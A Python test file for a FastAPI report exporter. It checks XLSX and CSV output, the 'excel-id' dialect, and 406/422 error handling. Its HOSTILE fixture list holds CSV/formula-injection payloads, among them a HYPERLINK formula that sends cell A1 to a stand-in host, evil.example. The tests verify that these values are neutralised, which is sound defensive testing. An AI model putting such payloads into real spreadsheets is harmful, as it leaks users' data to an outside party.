"""The report writers on a small app of their own: XLSX with typed cells (numbers, dates, booleans, text), a
frozen header and fitted widths; CSV in the default and the ``excel-id`` dialect; formula-like text
neutralised in every spreadsheet format while negative numbers stay numbers; 406 and 422 as problems."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import httpx
import openpyxl
import pytest
from fastapi import FastAPI, Response
from pydantic import BaseModel

from services.common.errors import install_problem_handlers
from services.common.reports import XLSX, Column, ReportFormatDep, ReportMeta, ReportSpec, report_response

SPEC = ReportSpec(
    name="test.formats",
    schema_version="3",
    rows="items",
    columns=(
        Column("name", "string"),
        Column("count", "integer"),
        Column("share", "number"),
        Column("delta", "number"),
        Column("ok", "boolean"),
        Column("on", "date"),
        Column("at", "date-time"),
        Column("tags", "array"),
        Column("nested.code", "string"),
    ),
)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)",
    "+62 812",
    "-1+2",
    "\tTAB",
    "\rCR",
]


class Row(BaseModel):
    name: str
    count: int
    share: Decimal | None
    delta: float
    ok: bool
    on: date
    at: datetime
    tags: list[str]
    nested: dict[str, str]


class Body(ReportMeta):
    items: list[Row]


def _rows() -> list[Row]:
    plain = Row(
        name="Siti Rahmawati",
        count=12,
        share=Decimal("0.7083"),
        delta=-1.5,
        ok=True,
        on=date(2026, 3, 31),
        at=datetime.fromisoformat("2026-03-31T17:00:00+00:00"),
        tags=["a", "b"],
        nested={"code": "-X"},
    )
    hostile = [
        plain.model_copy(update={"name": name, "count": -3, "share": None, "ok": False}) for name in HOSTILE
    ]
    return [plain, *hostile]


@pytest.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    app = FastAPI()
    install_problem_handlers(app)

    @app.get("/report", responses=SPEC.responses(), openapi_extra=SPEC.openapi_extra())
    async def report(fmt: ReportFormatDep) -> Response:
        body = Body(
            schema_version="3",
            generated_at=datetime.fromisoformat("2026-04-01T01:02:03+00:00"),
            data_as_of=datetime.fromisoformat("2026-03-31T17:00:00+00:00"),
            items=_rows(),
        )
        return report_response(SPEC, body, fmt, filename="test-report")

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
        yield c


async def test_xlsx_has_typed_cells_a_frozen_header_and_neutralised_text(client: httpx.AsyncClient) -> None:
    got = await client.get("/report", params={"format": "xlsx"})
    assert got.status_code == 200, got.text
    assert got.headers["content-type"] == XLSX
    assert got.headers["content-disposition"] == 'attachment; filename="test-report.xlsx"'
    assert got.headers["x-report-schema-version"] == "3"
    book = openpyxl.load_workbook(io.BytesIO(got.content))
    sheet = book["report"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header == [c.name for c in SPEC.columns]
    assert all(c.font.b for c in sheet[1])
    first = [c.value for c in sheet[2]]
    assert first[:5] == ["Siti Rahmawati", 12, 0.7083, -1.5, True]
    assert first[5] == datetime(2026, 3, 31)  # a real date cell
    assert [sheet.cell(2, i).number_format for i in (6, 7)] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss"]
    assert first[6] == datetime(2026, 3, 31, 17, 0)
    assert first[7] == '["a","b"]'
    assert first[8] == "'-X"  # text that starts like a formula, even in a nested field
    assert [sheet.cell(2, i).data_type for i in range(1, 6)] == ["s", "n", "n", "n", "b"]
    for line, name in enumerate(HOSTILE, start=3):
        # OOXML writes a CR as the escape _x000D_, which Excel decodes and openpyxl leaves as it is.
        assert str(sheet.cell(line, 1).value).replace("_x000D_", "\r") == "'" + name
        assert sheet.cell(line, 1).data_type == "s"  # text, never a formula
        assert sheet.cell(line, 2).value == -3  # a negative number stays a number
        assert sheet.cell(line, 2).data_type == "n"
        assert sheet.cell(line, 3).value is None
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDE"}
    assert widths["A"] > widths["B"] >= 8  # fitted to the content, names wider than counts
    assert widths["A"] <= 62
    about = {r[0].value: r[1].value for r in book["metadata"].iter_rows(min_row=2)}
    assert about["schema_version"] == "3"
    assert about["generated_at (UTC)"] == datetime(2026, 4, 1, 1, 2, 3)
    assert about["data_as_of (UTC)"] == datetime(2026, 3, 31, 17, 0)


async def test_xlsx_is_chosen_by_accept_too(client: httpx.AsyncClient) -> None:
    got = await client.get("/report", headers={"Accept": XLSX})
    assert got.headers["content-type"] == XLSX
    assert (
        (await client.get("/report", headers={"Accept": "*/*"}))
        .headers["content-type"]
        .startswith("application/json")
    )


async def test_default_csv_is_unchanged_apart_from_neutralised_text(client: httpx.AsyncClient) -> None:
    got = await client.get("/report", headers={"Accept": "text/csv"})
    assert got.status_code == 200
    assert not got.content.startswith(b"\xef\xbb\xbf")
    assert got.headers["content-disposition"] == 'attachment; filename="test-report.csv"'
    rows = list(csv.reader(io.StringIO(got.text)))
    assert rows[0] == [c.name for c in SPEC.columns]
    assert rows[1] == [
        "Siti Rahmawati",
        "12",
        "0.7083",
        "-1.5",
        "true",
        "2026-03-31",
        "2026-03-31T17:00:00Z",
        '["a","b"]',
        "'-X",
    ]
    assert [r[0] for r in rows[2:]] == ["'" + n for n in HOSTILE]
    assert {r[1] for r in rows[2:]} == {"-3"}  # numbers are never prefixed
    same = await client.get("/report", params={"format": "csv"})
    assert same.text == got.text


async def test_excel_id_csv_has_bom_semicolons_and_decimal_commas(client: httpx.AsyncClient) -> None:
    got = await client.get("/report", params={"format": "csv", "dialect": "excel-id"})
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("text/csv")
    assert got.content.startswith(b"\xef\xbb\xbf")
    text = got.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == [c.name for c in SPEC.columns]
    assert rows[1][:5] == ["Siti Rahmawati", "12", "0,7083", "-1,5", "true"]
    assert rows[1][7] == '["a","b"]'
    assert [r[0] for r in rows[2:]] == ["'" + n for n in HOSTILE]
    assert {r[1] for r in rows[2:]} == {"-3"}
    # ?dialect alone means CSV.
    alone = await client.get("/report", params={"dialect": "excel-id"})
    assert alone.content == got.content


@pytest.mark.parametrize(
    ("params", "loc"),
    [
        ({"format": "pdf"}, ["query", "format"]),
        ({"format": "XLSX"}, ["query", "format"]),
        ({"dialect": "excel"}, ["query", "dialect"]),
        ({"format": "xlsx", "dialect": "excel-id"}, ["query", "dialect"]),
        ({"format": "json", "dialect": "excel-id"}, ["query", "dialect"]),
    ],
)
async def test_bad_format_or_dialect_is_a_422_problem(
    client: httpx.AsyncClient, params: dict[str, str], loc: list[Any]
) -> None:
    got = await client.get("/report", params=params)
    assert got.status_code == 422
    assert got.headers["content-type"].startswith("application/problem+json")
    assert got.json()["errors"][0]["loc"] == loc


@pytest.mark.parametrize(
    ("accept", "params"),
    [
        ("application/xml", {}),
        ("application/pdf", {"format": "xlsx"}),
        ("text/csv", {"format": "xlsx"}),
        ("application/json", {"dialect": "excel-id"}),
    ],
)
async def test_an_accept_that_allows_nothing_asked_for_is_406(
    client: httpx.AsyncClient, accept: str, params: dict[str, str]
) -> None:
    got = await client.get("/report", params=params, headers={"Accept": accept})
    assert got.status_code == 406
    assert got.headers["content-type"].startswith("application/problem+json")


async def test_openapi_declares_every_media_type_and_the_parameters(client: httpx.AsyncClient) -> None:
    op = (await client.get("/openapi.json")).json()["paths"]["/report"]["get"]
    content = op["responses"]["200"]["content"]
    assert {"text/csv", XLSX} <= set(content)
    assert content[XLSX]["schema"] == {"type": "string", "format": "binary"}
    assert "Content-Disposition" in op["responses"]["200"]["headers"]
    params = {p["name"]: p for p in op["parameters"]}
    assert params["format"]["in"] == "query"
    assert params["dialect"]["in"] == "query"
    schemas = (await client.get("/openapi.json")).json()["components"]["schemas"]
    assert schemas["CsvDialect"]["enum"] == ["excel-id"]
    assert schemas["ReportFormat"]["enum"] == ["json", "csv", "xlsx"]
    assert op["x-report"]["media_types"] == ["application/json", "text/csv", XLSX]
